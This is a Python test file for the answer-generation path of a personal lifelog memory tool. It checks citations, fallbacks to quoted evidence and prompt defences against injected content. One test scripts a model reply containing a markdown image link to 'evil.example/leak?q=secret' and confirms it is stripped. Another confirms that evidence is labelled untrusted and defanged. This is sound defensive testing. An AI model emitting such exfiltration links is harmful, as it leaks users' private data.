"""The plain path (reasoning off): one retrieval, one generated answer, checked.

The model is scripted (lifelog.models.testing); the memory, store and index are real.
"""

from __future__ import annotations

from collections.abc import Sequence

import pytest
from answer_life import NOW, number_of

from lifelog import Memory
from lifelog.answer.extractive import NOT_FOUND
from lifelog.answer.generate import ask_events
from lifelog.errors import ModelError
from lifelog.models.llm import ContextOverflowError, Message
from lifelog.models.testing import ScriptedLLM

Script = ScriptedLLM


def ask(memory: Memory, question: str, llm: ScriptedLLM | None, **kwargs: object):  # type: ignore[no-untyped-def]
    events = list(ask_events(memory, question, llm=llm, now=NOW, **kwargs))  # type: ignore[arg-type]
    assert events[-1].kind == "answer" and events[-1].answer is not None
    return events[-1].answer, events[:-1]


def cite(text: str, template: str):  # type: ignore[no-untyped-def]
    """A scripted reply citing the item that holds ``text`` under its prompt number."""

    def reply(messages: Sequence[Message]) -> str:
        return template.format(n=number_of(str(messages[-1]["content"]), text))

    return reply


def test_a_supported_answer_is_generative_and_its_citations_resolve(life: Memory) -> None:
    llm = Script(
        [
            cite(
                "Back from camping",
                "You were back from camping at the beach on 19 June 2023 [{n}].",
            )
        ]
    )
    answer, events = ask(life, "When did we go camping at the beach?", llm)
    assert answer.mode == "generative" and answer.found, answer.notes
    assert answer.text.startswith("You were back from camping")
    [citation] = answer.citations
    assert citation.item.source == "whatsapp"
    assert citation.snippet in citation.item.text
    assert citation.item.text[citation.start : citation.end] == citation.snippet
    assert "".join(e.text for e in events if e.kind == "token").startswith("You were back")
    assert len([e for e in events if e.kind == "token"]) > 3  # streamed in pieces


def test_the_prompt_marks_evidence_as_untrusted_and_defangs_it(life: Memory) -> None:
    llm = Script(["I don't find this in your memory."])
    ask(life, "camping checklist", llm)
    system, *_, user = llm.calls[0]
    assert "untrusted data" in str(system["content"])
    prompt = str(user["content"])
    assert prompt.count("</sources>") == 1 and prompt.count("<sources>") == 1
    assert "<|im_start|>" not in prompt and '{"tool"' not in prompt and "[9]" not in prompt


def test_an_unsupported_answer_falls_back_to_quotes_and_says_why(life: Memory) -> None:
    skiing = cite("Back from camping", "You went skiing in Norway with Bob [{n}].")
    llm = Script([skiing, skiing])  # the same answer again at the second look
    answer, _ = ask(life, "When did we go camping at the beach?", llm)
    assert answer.mode == "extractive-fallback" and answer.found
    assert "skiing" not in answer.text and "“" in answer.text  # quotes from the memory
    assert any("not supported" in note and "skiing" in note for note in answer.notes)
    # the quotes are numbered anew: the note names the item the model cited, not its number
    *_first_look, why = [note for note in answer.notes if "not supported" in note]
    assert "not supported by the item of 2023-" in why and "[" not in why


def test_an_answer_that_fails_its_checks_gets_a_second_look(life: Memory) -> None:
    """A rejected draft, while an item plainly answers: the model reads just the items
    that match the question best once more, and its new answer is checked as the first."""
    llm = Script(
        ["You went skiing in Norway with Bob [1].", cite("It cost 120", "120 euros [{n}].")]
    )
    answer, _ = ask(life, "How much did the tent cost?", llm)
    assert answer.mode == "generative" and answer.text.startswith("120 euros"), answer.notes
    assert len(llm.calls) == 2 and "skiing" not in str(llm.calls[1][-1]["content"])
    assert any("shown again" in note and "not kept" in note for note in answer.notes)
    assert [c.item.title for c in answer.citations] == ["Tent"]


def test_citations_to_unretrieved_items_are_removed_and_counted(life: Memory) -> None:
    llm = Script([cite("It cost 120", "The tent cost 120 euros [{n}][42].")])
    answer, _ = ask(life, "How much did the tent cost?", llm)
    assert answer.mode == "generative"
    assert "[42]" not in answer.text
    assert any("removed 1 citation(s)" in note and "[42]" in note for note in answer.notes)
    assert [c.item.title for c in answer.citations] == ["Tent"]


def test_an_answer_citing_nothing_retrieved_falls_back(life: Memory) -> None:
    llm = Script(["It cost 150 euros [17]."] * 2)
    answer, _ = ask(life, "How much did the tent cost?", llm)
    assert answer.mode == "extractive-fallback"
    assert any("cites none" in note for note in answer.notes)


def test_a_supported_sentence_left_uncited_is_cited_to_its_source(life: Memory) -> None:
    answer, _ = ask(life, "How much did the tent cost?", Script(["It cost 120 euros [17]."]))
    assert answer.mode == "generative"
    assert "[17]" not in answer.text
    assert any("removed 1 citation(s)" in note for note in answer.notes)
    assert any("left uncited" in note for note in answer.notes)
    assert [c.item.title for c in answer.citations] == ["Tent"]
    assert "120 euros" in answer.citations[0].item.text


def test_an_answer_replaced_by_quotes_says_nothing_of_the_citations_it_lost(
    life: Memory,
) -> None:
    """lifelog cites the supported sentence, the other one fails the check, and the whole
    answer gives way to quotes: the note on the added citation would tell of text the
    user never sees."""
    llm = Script(["It cost 120 euros. You bought it in Norway with your sister Ingrid."] * 2)
    answer, _ = ask(life, "How much did the tent cost?", llm)
    assert answer.mode == "extractive-fallback"
    assert any("replaced by quotes" in note for note in answer.notes)
    assert not any("left uncited" in note for note in answer.notes)


def test_an_injected_link_is_stripped_before_anyone_sees_it(life: Memory) -> None:
    llm = Script(
        [
            cite(
                "Camping checklist",
                "Pack a tent and a stove [{n}]. ![x](https://evil.example/leak?q=secret)",
            )
        ]
    )
    answer, _ = ask(life, "What is on the camping checklist?", llm)
    assert "evil.example" not in answer.text
    assert any("removed 1 link" in note for note in answer.notes)


def test_missing_evidence_is_said_plainly(life: Memory) -> None:
    answer, _ = ask(life, "What is my passport number?", Script(["x"]))
    assert (answer.found, answer.text) == (False, NOT_FOUND)
    llm = Script(["I don't find this in your memory."])
    answer, _ = ask(life, "What colour was Bob's car parked on Elm Street?", llm)
    assert answer.text == NOT_FOUND and not answer.found and answer.mode == "generative"
    assert len(llm.calls) == 1  # the model saw the weak evidence and said so


def test_a_model_that_misses_clear_evidence_looks_again_then_yields_to_the_quotes(
    life: Memory,
) -> None:
    """A model that finds nothing where a sentence plainly answers is shown again only
    the items that match best; if it still finds nothing, the quotes answer."""
    llm = Script(["I don't find this in your memory."] * 2)
    answer, _ = ask(life, "How much did the tent cost?", llm)
    assert answer.found and answer.mode == "extractive-fallback" and "120 euros" in answer.text
    assert any("closest quotes" in note for note in answer.notes)
    assert len(llm.calls) == 2
    first, second = (str(call[-1]["content"]) for call in llm.calls)
    assert second.count("\n[") < first.count("\n[") and "120 euros" in second


def test_a_second_look_answers_in_the_models_own_words(life: Memory) -> None:
    llm = Script(
        [
            "I don't find this in your memory.",
            cite("120 euros", "The new tent cost 120 euros [{n}]."),
        ]
    )
    answer, _ = ask(life, "How much did the tent cost?", llm)
    assert answer.mode == "generative" and answer.text.startswith("The new tent cost 120 euros")
    assert any("shown again" in note for note in answer.notes), answer.notes
    # a model that said the evidence does not answer, where no sentence plainly does,
    # is believed at once
    llm = Script(["I don't find this in your memory."])
    answer, _ = ask(life, "What colour was Bob's car parked on Elm Street?", llm)
    assert answer.text == NOT_FOUND and len(llm.calls) == 1


def test_quotes_that_do_not_hold_what_the_question_turns_on_are_not_an_answer(
    life: Memory,
) -> None:
    """A rejected draft falls back to quotes only when they could answer: "Which beach
    did we avoid?" is not answered by a message about camping at the beach, although
    the same quotes answer the question without "avoid"."""
    wrong = Script(["You avoided the dunes at the lake."])
    answer, _ = ask(life, "Which beach did we avoid when camping?", wrong)
    assert (answer.found, answer.text) == (False, NOT_FOUND), answer.text
    assert any("do not say “avoid”" in note for note in answer.notes), answer.notes
    wrong = Script(["You went to the dunes at the lake."] * 2)
    answer, _ = ask(life, "Which beach did we go to when camping?", wrong)
    assert answer.found and answer.mode == "extractive-fallback", answer.notes
    assert "beach" in answer.text


def test_no_model_means_extractive_and_says_so(life: Memory) -> None:
    answer, _ = ask(life, "How much did the tent cost?", None, llm_note="generation is off")
    assert answer.mode == "extractive" and "120 euros" in answer.text
    assert answer.notes == ("generation is off: extractive answer",)


def test_a_failing_model_means_extractive_and_says_so(life: Memory) -> None:
    llm = Script([ModelError("cannot reach the LLM server at http://127.0.0.1:9/v1")])
    answer, _ = ask(life, "How much did the tent cost?", llm)
    assert answer.mode == "extractive" and "120 euros" in answer.text
    assert any("cannot reach" in note for note in answer.notes)


def test_an_overflow_is_retried_with_less_evidence(life: Memory) -> None:
    llm = Script(
        [
            ContextOverflowError("too long", 900),
            cite("It cost 120", "The tent cost 120 euros [{n}]."),
        ]
    )
    answer, _ = ask(life, "How much did the tent cost?", llm)
    assert answer.mode == "generative" and len(llm.calls) == 2
    assert answer.notes == ()


def test_reasoning_is_kept_apart_from_the_answer(life: Memory) -> None:
    llm = Script(
        [cite("It cost 120", "<think>Source says 120 euros.</think>The tent cost 120 euros [{n}].")]
    )
    answer, events = ask(life, "How much did the tent cost?", llm)
    assert answer.reasoning == "Source says 120 euros."
    assert "think" not in answer.text
    assert "".join(e.text for e in events if e.kind == "reasoning") == "Source says 120 euros."


def test_memory_ask_streams_and_passes_history(
    life: Memory, monkeypatch: pytest.MonkeyPatch
) -> None:
    llm = Script(
        [
            cite("It cost 120", "The tent cost 120 euros [{n}]."),
            cite("It cost 120", "You bought it on 1 June 2023 [{n}]."),
        ]
    )
    monkeypatch.setattr(life, "llm", lambda model=None: llm)
    streamed: list[str] = []
    first = life.ask("How much did the tent cost?", now=NOW, stream=streamed.append)
    assert "".join(streamed) == first.text and first.mode == "generative"
    second = life.ask("When did I buy it?", now=NOW, history=[first])
    assert second.mode == "generative", second.notes
    roles = [m["role"] for m in llm.calls[1]]
    assert roles[-3:] == ["user", "assistant", "user"]
    assert llm.calls[1][-2]["content"] == "The tent cost 120 euros."  # citations dropped


def test_memory_ask_without_a_model_stays_extractive(life: Memory) -> None:
    answer = life.ask("How much did the tent cost?", model="none")
    assert answer.mode == "extractive" and "120 euros" in answer.text
    assert any("no generative model" in note for note in answer.notes)


def test_an_unknown_reasoning_level_is_a_user_error(life: Memory) -> None:
    from lifelog.errors import UserError

    with pytest.raises(UserError, match="reasoning"):
        life.ask("tent", reasoning="extreme", model="none")
